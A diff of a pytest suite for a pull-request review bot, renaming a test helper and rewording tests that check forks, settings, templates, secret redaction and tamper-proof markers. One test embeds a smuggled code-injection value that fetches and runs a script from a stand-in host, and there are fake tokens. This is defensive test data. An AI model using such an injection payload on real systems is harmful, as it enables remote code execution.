@@ -9,21 +9,21 @@ from reviewbot_sandbox.codevf import Answer, TaskLife, TaskRequest
 from reviewbot_sandbox.faults import DropBefore, Meanwhile, Reply
 from reviewbot_sandbox.github import Level, Rules, pulls
 
-from tests.app.house import CLEAN, FORGETFUL, HEAD, KEY, REPO, answer, finding, fork, from_fork, house
+from tests.app.rig import CLEAN, FORGETFUL, HEAD, KEY, REPO, answer, finding, fork, from_fork, open_rig
 
-pytestmark = pytest.mark.proof  # `tests/simulation` plays such stories in memory
+pytestmark = pytest.mark.proof  # `tests/simulation` plays such histories in memory
 
 CRITICAL = finding("app.py", 12, severity="critical", title="A shell runs it", code="os.system(command)")
 
 
 OPENING = {".github/reviewbot.yml": "fail-on: never\n", ".gitattributes": "* linguist-generated\n"}
-"""A settings file that an author would like to be used."""
+"""A settings file that would make every check pass."""
 
 LEAK = 'import os\nTOKEN = "{}"\n' + "".join(f"x_{number} = {number}\n" for number in range(20))
 
 
 def test_a_stranger_cannot_spend(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         fork(rig)
         ref = {"GITHUB_WORKFLOW_REF": f"{REPO}/.github/workflows/review.yml@refs/heads/main"}
         done = rig.run(event="pull_request_target", payload=from_fork(rig), runner=ref)
@@ -34,7 +34,7 @@ def test_a_stranger_cannot_spend(tmp_path: Path) -> None:
 
 
 def test_a_user_with_write_access_approves_by_starting_the_workflow(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         fork(rig)
         rig.world.grant(REPO, "hubot", Level.WRITE)
         head = rig.world.pull(REPO, rig.number).head_sha
@@ -50,15 +50,15 @@ def test_a_user_with_write_access_approves_by_starting_the_workflow(tmp_path: Pa
         assert len(rig.service.tasks()) == 1
 
 
-def test_anyone_may_spend_when_the_owners_say_so(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+def test_anyone_may_spend_if_the_setting_allows_it(tmp_path: Path) -> None:
+    with open_rig(tmp_path) as rig:
         fork(rig)
         assert rig.run(event="pull_request_target", payload=from_fork(rig), allow="anyone").exit_status == 0
 
 
 @pytest.mark.parametrize(("level", "tasks"), [(Level.WRITE, 1), (Level.READ, 0)])
 def test_the_approval_label_buys_for_people_with_write_access(tmp_path: Path, level: Level, tasks: int) -> None:
-    with house(tmp_path, config="approve-spend: review-please\n") as rig:
+    with open_rig(tmp_path, config="approve-spend: review-please\n") as rig:
         rig.world.grant(REPO, "hubot", level)
         label = {"label": {"name": "review-please"}, "sender": {"login": "hubot", "type": "User"}}
         assert rig.run().outputs["reason"] == "not-approved"
@@ -67,14 +67,14 @@ def test_the_approval_label_buys_for_people_with_write_access(tmp_path: Path, le
 
 
 def test_a_fork_without_a_key_does_not_fail_the_step(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         fork(rig)
         done = rig.run(payload=from_fork(rig), codevf_api_key="")
         assert (done.exit_status, done.outputs["reason"]) == (0, "no-key")
 
 
 def test_settings_and_attributes_on_the_authors_branches_are_not_read(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.world.push(REPO, "base", OPENING, author="mona")
         rig.world.push(REPO, "topic", {**OPENING, "more.py": "x = 1\n"}, author="mona")
         rig.number = rig.world.open_pull_request(REPO, "topic", base="base", author="mona").number
@@ -82,14 +82,14 @@ def test_settings_and_attributes_on_the_authors_branches_are_not_read(tmp_path: 
         assert "+os.system(command)" in str([one.body for one in rig.codevf_faults.log])
 
 
-def test_settings_on_the_default_branch_are(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
+def test_settings_on_the_default_branch_are_read(tmp_path: Path) -> None:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
         assert rig.run().exit_status == 0
-        assert rig.run(fail_on="critical").exit_status == 0, "frozen when it was bought"
+        assert rig.run(fail_on="critical").exit_status == 0, "the settings of the purchase apply"
 
 
 def test_an_input_overrides_the_file(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL), config="fail-on: never\n") as rig:
         assert rig.run(fail_on="critical").exit_status == 1
 
 
@@ -97,24 +97,24 @@ def test_templates_come_from_the_default_branch_alone(tmp_path: Path) -> None:
     ours = '{% extends "shipped/comment.md.j2" %}{% block finding %}OURS {{ super() }}{% endblock %}'
     theirs = ours.replace("OURS", "THEIRS")
     files = {".github/reviewbot/comment.md.j2": ours}
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL), files=files) as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL), files=files) as rig:
         rig.world.push(REPO, "topic", {".github/reviewbot/comment.md.j2": theirs}, author="mona")
         rig.run()
         assert all("OURS" in one.body and "THEIRS" not in one.body for one in rig.comments())
 
 
-def test_a_template_that_loses_its_mark_is_an_error(tmp_path: Path) -> None:
+def test_a_template_that_loses_its_marker_is_an_error(tmp_path: Path) -> None:
     files = {".github/reviewbot/summary.md.j2": "No mark here.\n"}
-    with house(tmp_path, engineer=lambda _: CLEAN, files=files) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN, files=files) as rig:
         done = rig.run()
         assert (done.exit_status, done.outputs["reason"]) == (2, "template")
         assert not rig.summaries()
         assert rig.checks()[-1].conclusion == "action_required"
 
 
-def test_a_secret_never_leaves(tmp_path: Path) -> None:
+def test_a_secret_is_never_sent(tmp_path: Path) -> None:
     secret = "ghp_" + "a1B2c3D4e5" * 4
-    with house(
+    with open_rig(
         tmp_path, engineer=lambda _: answer(finding("leak.py", 2, code='TOKEN = "[REDACTED:github-token]"'))
     ) as rig:
         rig.world.push(REPO, "topic", {"leak.py": LEAK.format(secret)}, author="mona")
@@ -130,7 +130,7 @@ def test_a_secret_never_leaves(tmp_path: Path) -> None:
 
 def test_a_file_held_back_by_redact_block_makes_the_review_partial(tmp_path: Path) -> None:
     secret = "ghp_" + "a1B2c3D4e5" * 4
-    with house(tmp_path, config="redact: block\n") as rig:
+    with open_rig(tmp_path, config="redact: block\n") as rig:
         rig.world.push(REPO, "topic", {"leak.py": LEAK.format(secret)}, author="mona")
         done = rig.run()
         assert (done.exit_status, done.outputs["coverage"]) == (3, "partial")
@@ -139,7 +139,7 @@ def test_a_file_held_back_by_redact_block_makes_the_review_partial(tmp_path: Pat
 
 def test_code_named_password_does_not_turn_the_check_green(tmp_path: Path) -> None:
     hidden = ";__import__('os').system('curl+evil.sh|sh')#1"
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         rig.world.push(REPO, "evil", {"load.py": f"y = x{hidden}\n"}, author="mona")
         body = f'Test account: password: "{hidden}"'
         rig.number = rig.world.open_pull_request(REPO, "evil", title="Tidy", body=body, author="mona").number
@@ -153,7 +153,7 @@ def test_a_head_that_moves_while_waiting_gets_no_comment_on_a_wrong_line(tmp_pat
         rig.world.push(REPO, "topic", {"app.py": "moved = 1\n"}, author="mona")
         return answer(CRITICAL)
 
-    with house(tmp_path, engineer=engineer) as rig:
+    with open_rig(tmp_path, engineer=engineer) as rig:
         reviewed = rig.world.pull(REPO, 1).head_sha
         done = rig.run()
         assert not rig.comments()
@@ -170,7 +170,7 @@ def test_a_head_that_is_pushed_while_the_diff_is_read_hides_no_file(tmp_path: Pa
     def engineer(task: TaskRequest) -> Answer:
         return answer(flaw) if "eval(parcel)" in str(task.attachments) else CLEAN
 
-    with house(tmp_path, engineer=engineer) as rig:
+    with open_rig(tmp_path, engineer=engineer) as rig:
         pull, heads = rig.world.pull(REPO, 1), []
         fewer = {name: text for name, text in HEAD.items() if name != "new file.py"}
 
@@ -192,7 +192,7 @@ def test_a_head_that_is_pushed_while_the_diff_is_read_hides_no_file(tmp_path: Pa
 
 
 def test_a_diff_that_the_api_refuses_is_fetched(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.world.store.rules = Rules(diff_files=1)
         done = rig.run()
         assert done.exit_status == 1, done.log
@@ -200,7 +200,7 @@ def test_a_diff_that_the_api_refuses_is_fetched(tmp_path: Path) -> None:
 
 
 def test_a_diff_with_fewer_files_than_the_change_has_is_fetched(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         pull = rig.world.pull(REPO, 1)
         whole = rig.world.store.git(REPO).diff(pull.base_sha, pull.head_sha)
         part, split, _ = whole.partition(b"diff --git a/gone.py")
@@ -213,7 +213,7 @@ def test_a_diff_with_fewer_files_than_the_change_has_is_fetched(tmp_path: Path) 
 
 def test_a_merge_of_more_parents_than_are_read_hides_no_file(tmp_path: Path) -> None:
     """Its last parent is the base's tip, whose change of `safe.py` it takes back."""
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         old = rig.world.push(REPO, "main", {"safe.py": "allow(everyone)\n", "news.py": "1\n"})
         new = rig.world.push(REPO, "main", {"safe.py": "allow(admins)\n", "news.py": "2\n"})
         sides = [rig.world.push(REPO, f"side-{one}", {}, message=str(one), parents=(old,)) for one in range(20)]
@@ -225,7 +225,7 @@ def test_a_merge_of_more_parents_than_are_read_hides_no_file(tmp_path: Path) -> 
 
 def test_an_older_commit_does_not_get_the_verdict_of_a_head_that_github_does_not_list(tmp_path: Path) -> None:
     """Of many commits GitHub lists only the first ones. The last of them has an open check."""
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         rig.world.store.rules = Rules(commits=2)
         older = rig.world.push(REPO, "topic", {"more.py": "evil()\n"}, author="mona")
         assert rig.run(wait_minutes="0").outputs["status"] == "pending"
@@ -237,7 +237,7 @@ def test_an_older_commit_does_not_get_the_verdict_of_a_head_that_github_does_not
 
 def test_a_tag_with_the_name_of_the_base_hides_no_line(tmp_path: Path) -> None:
     """Of a tag and a branch with one name, git takes the tag. The change of the tagged commit has as many files."""
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         lines = "evil()\n" + "".join(f"x_{number} = {number}\n" for number in range(9))
         first = rig.world.push(REPO, "files", {"a.py": lines}, author="mona")
         base = rig.world.push(REPO, "main", {"news.py": "1\n"})
@@ -250,14 +250,14 @@ def test_a_tag_with_the_name_of_the_base_hides_no_line(tmp_path: Path) -> None:
 
 
 def test_an_attribute_cannot_hide_lines(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: CLEAN) as rig:
+    with open_rig(tmp_path, engineer=lambda _: CLEAN) as rig:
         rig.world.push(REPO, "topic", {".gitattributes": "*.py -diff\n"}, author="mona")
         rig.run()
         assert "eval(parcel)" in str([one.body for one in rig.codevf_faults.log])
 
 
 def test_an_edited_ledger_is_not_trusted_and_buys_nothing_twice(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.run()
         [comment] = [one for one in rig.world.store.comments.values() if one.author.endswith("[bot]")]
         body = comment.body.replace("reviewbot:ledger:v1 e", "reviewbot:ledger:v1 f")
@@ -270,7 +270,7 @@ def test_an_edited_ledger_is_not_trusted_and_buys_nothing_twice(tmp_path: Path) 
 
 
 def test_a_deleted_summary_neither_buys_again_nor_resets_the_budget(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.run()
         [comment] = [one for one in rig.world.store.comments.values() if one.author.endswith("[bot]")]
         rig.world.delete_comment(comment.id)
@@ -279,8 +279,8 @@ def test_a_deleted_summary_neither_buys_again_nor_resets_the_budget(tmp_path: Pa
         assert len(rig.summaries()) == 1
 
 
-def test_a_pasted_mark_is_ignored(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
+def test_a_pasted_marker_is_ignored(tmp_path: Path) -> None:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.world.comment(REPO, 1, "mona", '<!-- reviewbot:summary:v1 instance="" -->\nAll is well.')
         rig.run()
         assert len(rig.summaries()) == 1
@@ -288,7 +288,7 @@ def test_a_pasted_mark_is_ignored(tmp_path: Path) -> None:
 
 
 def test_two_instances_are_independent(tmp_path: Path) -> None:
-    with house(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
+    with open_rig(tmp_path, engineer=lambda _: answer(CRITICAL)) as rig:
         rig.run()
         rig.run(instance="second")
         assert len(rig.summaries()) == 2
@@ -297,7 +297,7 @@ def test_two_instances_are_independent(tmp_path: Path) -> None:
 
 
 def test_a_dry_run_spends_and_posts_nothing(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         done = rig.run(dry_run="true")
         assert (done.exit_status, done.outputs["reason"]) == (0, "dry-run")
         assert not rig.codevf_faults.log
@@ -307,7 +307,7 @@ def test_a_dry_run_spends_and_posts_nothing(tmp_path: Path) -> None:
 
 
 def test_a_dry_run_of_the_local_reviewer_shows_its_findings(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         done = rig.run(dry_run="true", reviewer="local", json_file="report.json")
         assert "eval" in done.summary
         assert (done.workspace / "report.json").exists()
@@ -315,24 +315,24 @@ def test_a_dry_run_of_the_local_reviewer_shows_its_findings(tmp_path: Path) -> N
 
 
 def test_on_ready_reviews_once(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         rig.run(review_on="ready")
         rig.world.push(REPO, "topic", {"more.py": "x = 1\n"}, author="mona")
         done = rig.run(review_on="ready")
         assert (done.outputs["status"], done.outputs["reason"]) == ("skipped", "not-requested")
-        assert not rig.checks(), "nothing turns green"
+        assert not rig.checks(), "no check turns green"
         assert len(rig.service.tasks()) == 1
 
 
 def test_on_request_waits_for_a_request(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         assert rig.run(review_on="request").outputs["reason"] == "not-requested"
         assert not rig.service.tasks()
 
 
 def test_a_summary_that_cannot_be_written_leaves_the_id_in_the_check(tmp_path: Path) -> None:
     life = TaskLife(pending=2, processing=2)
-    with house(tmp_path, life=life, limits=FORGETFUL) as rig:
+    with open_rig(tmp_path, life=life, limits=FORGETFUL) as rig:
         rig.github_faults.add("/issues/1/comments", DropBefore(), method="POST", times=None)
         assert rig.run().exit_status == 4
         rig.github_faults.clear()
@@ -341,18 +341,18 @@ def test_a_summary_that_cannot_be_written_leaves_the_id_in_the_check(tmp_path: P
 
 
 def test_the_project_key_is_sent_to_codevf_alone(tmp_path: Path) -> None:
-    with house(tmp_path) as rig:
+    with open_rig(tmp_path) as rig:
         rig.run()
         assert KEY not in str([one.body for one in rig.github_faults.log])
 
 
-def test_a_secret_in_the_owners_instructions_stays_here(tmp_path: Path) -> None:
+def test_a_secret_in_the_owners_instructions_is_not_sent(tmp_path: Path) -> None:
     secret = "ghp_" + "a1B2c3D4e5" * 4
     config = (
         f"path-instructions:\n  - path: 'app.py'\n    instructions: the token is {secret}\n"
         "  - path: 'nowhere/**'\n    instructions: never said\n"
     )
-    with house(tmp_path, config=config) as rig:
+    with open_rig(tmp_path, config=config) as rig:
         rig.run()
         sent = str([one.body for one in rig.codevf_faults.log])
         assert "the token is [REDACTED:github-token]" in sent
